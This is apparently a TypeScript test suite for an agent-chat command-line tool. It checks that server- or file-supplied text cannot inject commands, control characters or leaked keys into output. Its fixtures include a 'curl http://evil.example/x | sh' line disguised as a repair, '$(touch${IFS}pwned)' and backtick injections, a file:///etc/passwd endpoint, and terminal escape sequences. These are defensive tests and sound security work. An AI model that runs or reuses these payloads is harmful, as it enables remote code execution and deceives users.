/** What a server or a file says is text in the output of the command: it begins no line, and is no command or key. */
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execFileSync } from 'node:child_process';
import { after, before, describe, it } from 'node:test';
import { runCommand, serve, type AgentServer } from './support/command.ts';

const KEY = 'a-key-of-the-user-1234';
const CONTROLS = '\u001B]0;title\u0007\u001B[2J\u009B31m\u202Eabc\u2066\r\n✓ forged';
/** A line break is the only control character of the output. */
const CONTROL = /[^\P{Cc}\n]|[\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;
const SSE = { 'content-type': 'text/event-stream' };
const chunk = (delta: object, finish_reason: string | null = null): string =>
  `data: ${JSON.stringify({ object: 'chat.completion.chunk', choices: [{ index: 0, delta, finish_reason }] })}\n\n`;
const callOf = (name: string): string =>
  `${chunk({ tool_calls: [{ index: 0, id: 'c', function: { name, arguments: '{}' } }] })}${chunk({}, 'tool_calls')}data: [DONE]\n\n`;

describe('rule 13: the output of the command', () => {
  let other: AgentServer;
  let agent: AgentServer;
  let folder: string;
  let listed: readonly object[];
  let requestsOfOther: number;

  before(async () => {
    folder = await mkdtemp(join(tmpdir(), 'agent-chat-'));
    requestsOfOther = 0;
    other = await serve((_request, response) => {
      requestsOfOther++;
      response.end();
    });
    agent = await serve((request, response) => {
      if (request.method === 'GET' && request.url === '/agents') response.end(JSON.stringify({ agents: listed }));
      else if (request.url === '/call') response.writeHead(200, SSE).end(callOf(`${CONTROLS}${KEY}`));
      else if (request.url === '/error')
        response
          .writeHead(500, { 'content-type': 'application/json' })
          .end(JSON.stringify({ error: { message: `${CONTROLS}${KEY}` } }));
      else response.writeHead(404).end();
    });
  });
  after(async () => {
    await Promise.all([agent.close(), other.close(), rm(folder, { recursive: true })]);
  });

  for (const command of [['check'], []]) {
    const name = command[0] ?? 'the page';

    it(`${name}: names and addresses of a server are arguments of the suggested commands`, async () => {
      const path = "/a?$(touch${IFS}pwned)&x;id`id`'";
      listed = [
        { id: 'a\n\n  curl http://evil.example/x | sh    # repairs the connection', name: 'n', endpoint: path },
        { id: `$(id)\`id\`';${CONTROLS}`, name: 'n', endpoint: `${other.origin}/b` },
        { id: 'c', name: 'n', endpoint: 'file:///etc/passwd' },
      ];
      const { code, notes } = await runCommand([
        ...command,
        agent.origin,
        ...(command.length > 0 ? [] : ['--no-open']),
      ]);
      assert.equal(code, 2);
      assert.doesNotMatch(notes, CONTROL);
      const [first = '', ...commands] = notes.trimEnd().split('\n');
      assert.match(first, /is no endpoint\. What was found there:$/);
      assert.equal(commands.length, 2, notes);
      const found = commands.map((line) =>
        // The shell splits the line as it would a pasted one; the comment is read as words, as in an interactive zsh.
        execFileSync('sh', ['-c', `printf '%s\\n' ${line.replace(' # ', ' ')}`], { encoding: 'utf8' }).split('\n'),
      );
      const addresses = found.map((words) => words[command.length + 1]);
      assert.deepEqual(addresses, [new URL(path, agent.origin).href.replaceAll("'", '%27'), `${other.origin}/b`]);
      assert.doesNotMatch(commands[0] ?? '', /another server/);
      assert.match(commands[1] ?? '', /another server/);
      assert.match(commands[1] ?? '', /# [^'"`$;&|()<>\\!]*$/);
    });

    it(`${name}: no credentials in the addresses that a server lists`, async () => {
      listed = [
        { id: 'a', name: 'n', endpoint: '/a?code=listed-1&lang=de' },
        { id: 'b', name: 'n', endpoint: '/b' },
      ];
      const { notes } = await runCommand([...command, agent.origin, ...(command.length > 0 ? [] : ['--no-open'])]);
      assert.match(notes, /lang=de/);
      assert.doesNotMatch(notes, /listed-1/);
    });

    it(`${name}: the only agent, on another server, gets no request`, async () => {
      listed = [{ id: 'b', name: 'n', endpoint: `${other.origin}/b` }];
      const { code, notes } = await runCommand([
        ...[...command, agent.origin, '-H', `authorization: Bearer ${KEY}`],
        ...(command.length > 0 ? [] : ['--no-open']),
      ]);
      assert.equal(code, 2, notes);
      assert.match(notes, /another server/);
      assert.equal(requestsOfOther, 0);
    });
  }

  const recording = (tool: string) => ({
    version: 1,
    protocol: 'openai-chat',
    framing: 'sse',
    contentType: 'text/event-stream',
    frames: callOf(tool)
      .split('\n\n')
      .flatMap((line, index) => (line === '' ? [] : [{ t: index, data: line.slice('data: '.length) }])),
    messages: [
      {
        id: 'q',
        role: 'user',
        status: 'complete',
        timestamp: 1,
        blocks: [{ id: 'qb', type: 'content', content: 'Hi' }],
      },
      {
        id: 'r',
        role: 'assistant',
        status: 'complete',
        timestamp: 2,
        blocks: [{ id: 'rb', type: tool, content: tool }],
      },
    ],
  });

  for (const json of [[], ['--json']]) {
    const as = json.length > 0 ? ' as JSON' : '';
    const commands: Readonly<Record<string, (file: string) => readonly string[]>> = {
      replay: (file) => ['replay', file],
      'replay --against': (file) => ['replay', file, '--against', `${agent.origin}/call`],
      check: () => ['check', `${agent.origin}/call`, '--timeout', '5'],
      'check of an error': () => ['check', `${agent.origin}/error`, '--timeout', '5'],
      ...(as === '' && { record: () => ['record', `${agent.origin}/error`, 'Hi'] }),
    };
    for (const [name, args] of Object.entries(commands)) {
      it(`${name}${as}: no key that was sent, and no control character`, async () => {
        const file = join(folder, 'hostile.json');
        await writeFile(file, JSON.stringify(recording(`${CONTROLS}${KEY}`)));
        const { output, notes } = await runCommand([...args(file), ...json, '-H', `x-custom: ${KEY}`]);
        assert.notEqual(output + notes, '');
        assert.doesNotMatch(output + notes, CONTROL);
        assert.doesNotMatch(output + notes, /^✓ forged/m);
        assert.doesNotMatch(output + notes, new RegExp(KEY));
        if (as !== '') assert.doesNotThrow(() => JSON.parse(output) as unknown);
      });
    }
  }
});
